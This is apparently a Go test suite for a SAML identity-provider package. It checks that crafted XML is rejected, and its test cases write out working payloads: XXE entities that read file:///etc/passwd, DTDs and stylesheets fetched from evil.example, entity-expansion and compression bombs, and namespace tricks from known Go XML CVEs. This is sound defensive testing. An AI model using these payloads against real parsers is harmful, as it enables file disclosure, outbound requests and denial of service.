package saml_test

import (
	"bytes"
	"compress/flate"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"keyway/provider/upstream"
)

// refuses changes the text of an answer that holds, and wants it refused for a reason,
// soon.
func refuses(t *testing.T, why string, documents map[string]func(text string) string) {
	t.Helper()
	for name, change := range documents {
		t.Run(name, func(t *testing.T) {
			s := newIDP(t)
			was := string(text(t, s.signed(t, "both")))
			is := change(was)
			require.NotEqual(t, was, is)
			begun := time.Now()
			_, err := s.exchange(t, []byte(is))
			require.Equal(t, upstream.Untrusted, upstream.KindOf(err), "%v", err)
			require.ErrorContains(t, err, why)
			require.Less(t, time.Since(begun), 2*time.Second)
			_, err = s.exchange(t, []byte(was))
			require.NoError(t, err, "it was the change")
		})
	}
}

func before(s string) func(string) string { return func(text string) string { return s + text } }
func swap(a, b string) func(string) string {
	return func(text string) string { return strings.Replace(text, a, b, 1) }
}

func TestAttack22XXE(t *testing.T) {
	refuses(t, "it has a DTD", map[string]func(string) string{
		"an external entity": before(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`),
		"an external entity in a name": func(s string) string {
			return `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + swap(">u1<", ">&x;<")(s)
		},
		"a parameter entity":                       before(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>`),
		"entities that grow":                       before(`<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>`),
		"a DTD elsewhere":                          before(`<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">`),
		"attributes that become ids":               before(`<!DOCTYPE r [<!ATTLIST saml:NameID Format ID #IMPLIED>]>`),
		"CVE-2020-29510: one that hides a comment": before(`<!DOCTYPE r [<!-- > --> <!ENTITY x "y">]>`),
	})
	refuses(t, "not well-formed", map[string]func(string) string{
		"an entity that nobody declared": swap(">u1<", ">&x;<"),
		"a stylesheet":                   before(`<?xml-stylesheet href="http://evil.example/x.xsl"?>`),
		"an instruction within":          swap("<saml:Subject>", "<?php x ?><saml:Subject>"),
		"another encoding":               before(`<?xml version="1.0" encoding="UTF-7"?>`),
	})
}

// Go's XML packages write some names otherwise than they read them, so that what is
// verified is not what is read: CVE-2020-29509, -29510 and -29511, and because of them
// CVE-2020-26290 and CVE-2020-27847 of Dex, CVE-2020-27846 of crewjam/saml.
func TestCVE202029509DocumentsThatChangeWhenTheyAreWritten(t *testing.T) {
	refuses(t, "not well-formed", map[string]func(string) string{
		"CVE-2020-29509: an attribute without a prefix before the colon": swap("<saml:Subject>", `<saml:Subject :ID="x">`),
		"CVE-2020-29509: an attribute with two colons":                   swap("<saml:Subject>", `<saml:Subject a:b:c="x">`),
		"CVE-2020-29509: a namespace without a name":                     swap("<saml:Subject>", `<saml:Subject xmlns:="x">`),
		"CVE-2020-29511: an element without a prefix before the colon":   swap("<saml:Subject>", `<:Assertion/><saml:Subject>`),
		"CVE-2020-29511: an element with two colons":                     swap("<saml:Subject>", `<saml::Assertion/><saml:Subject>`),
		"CVE-2020-29510: a directive within":                             swap("<saml:Subject>", `<!x <!-- -->><saml:Subject>`),
		"CVE-2020-26290: a prefix that is no name":                       swap("<saml:Subject>", `<saml:Subject xmlns:1="x">`),
		"CVE-2020-27847: an attribute twice":                             swap(`ID="_a1"`, `ID="_a1" ID="_evil"`),
		"CVE-2020-27846: xml bound to something else":                    swap("<saml:Subject>", `<saml:Subject xmlns:xml="x">`),
		"CVE-2020-27846: xmlns bound to something else":                  swap("<saml:Subject>", `<saml:Subject xmlns:xmlns="x">`),
		"a prefix that is taken back":                                    swap("<saml:Subject>", `<saml:Subject xmlns:q="">`),
		"a second root":                                                  func(s string) string { return s + "<evil/>" },
		"text behind the root":                                           func(s string) string { return s + "evil" },
		"an end that is not its beginning's":                             swap("</saml:Subject>", "</samlp:Subject>"),
		"no end":                                                         func(s string) string { return strings.TrimSuffix(s, "</samlp:Response>") + "<a>" },
	})
	refuses(t, "not valid text", map[string]func(string) string{
		"what is not UTF-8": swap(">u1<", ">u\xff<"), "a NUL": swap(">u1<", ">u\x00<"),
	})
}

func TestDocumentsThatAreTooMuch(t *testing.T) {
	inside := func(s string) func(string) string {
		return swap("<samlp:Status>", "<samlp:Extensions>"+s+"</samlp:Extensions><samlp:Status>")
	}
	var many strings.Builder
	for i := range 30 {
		_, _ = fmt.Fprintf(&many, ` xmlns:p%d="urn:p"`, i)
	}
	refuses(t, "too deep", map[string]func(string) string{
		"a deep one":                  inside(strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000)),
		"one of many elements":        inside(strings.Repeat("<a/>", 11_000)),
		"an element of many prefixes": inside("<a" + many.String() + "/>"),
	})
	nest := `<a xmlns:p%d="urn:p" xmlns:q%d="urn:q" xmlns:r%d="urn:r">`
	var deep strings.Builder
	for i := range 25 {
		_, _ = fmt.Fprintf(&deep, nest, i, i, i)
	}
	refuses(t, "", map[string]func(string) string{"many prefixes in scope": inside(deep.String() + strings.Repeat("<b/>", 5000) + strings.Repeat("</a>", 25))})

	t.Run("a bomb of the other binding is not blown up", func(t *testing.T) {
		s := newIDP(t)
		var packed bytes.Buffer
		w, err := flate.NewWriter(&packed, flate.BestCompression)
		require.NoError(t, err)
		_, err = w.Write(bytes.Repeat([]byte("<a/>"), 4<<20))
		require.NoError(t, err)
		require.NoError(t, w.Close())
		_, err = s.exchange(t, packed.Bytes())
		require.Equal(t, upstream.Untrusted, upstream.KindOf(err))
	})
}

// gosaml2 fell over a text of zeros under AES-CBC (GHSA-hwqm-qvj9-4jr2, 2026), which
// anybody can make of our public key. Here nothing encrypted is looked into.
func TestTheCBCPaddingPanicOf2026(t *testing.T) {
	s := newIDP(t)
	key := make([]byte, 16)
	block, err := aes.NewCipher(key)
	require.NoError(t, err)
	zeros := make([]byte, 32) // an initialization vector, and a block that decrypts to zeros
	cipher.NewCBCEncrypter(block, zeros[:16]).CryptBlocks(zeros[16:], make([]byte, 16))
	wrapped, err := rsa.EncryptOAEP(sha1.New(), rand.Reader, &ours().key.PublicKey, key, nil)
	require.NoError(t, err)
	encrypted := `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#">` +
		`<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey>` +
		`<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/><xenc:CipherData><xenc:CipherValue>` + base64.StdEncoding.EncodeToString(wrapped) +
		`</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo><xenc:CipherData><xenc:CipherValue>` + base64.StdEncoding.EncodeToString(zeros) +
		`</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>`
	whole := string(text(t, s.signed(t, "")))
	from, to := strings.Index(whole, "<saml:Assertion"), strings.Index(whole, "</samlp:Response>")
	_, err = s.exchange(t, []byte(whole[:from]+encrypted+whole[to:]))
	require.ErrorContains(t, err, "encrypted")
	require.Equal(t, upstream.Untrusted, upstream.KindOf(err))
}
